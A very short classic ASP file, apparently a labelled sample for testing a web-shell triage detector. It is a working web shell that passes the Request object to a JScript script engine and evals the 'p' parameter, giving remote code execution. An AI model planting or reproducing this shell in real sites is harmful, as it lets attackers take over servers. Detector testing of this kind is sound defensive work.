<%
' triage-expect: triage_asp_script_control
' A second script engine is given the Request object and runs what it says.
Set sc = Server.CreateObject("MSScriptControl.ScriptControl")
sc.Language = "JScript"
sc.AddObject "rq", Request
sc.ExecuteStatement "eval(rq.Item('p'))"
%>
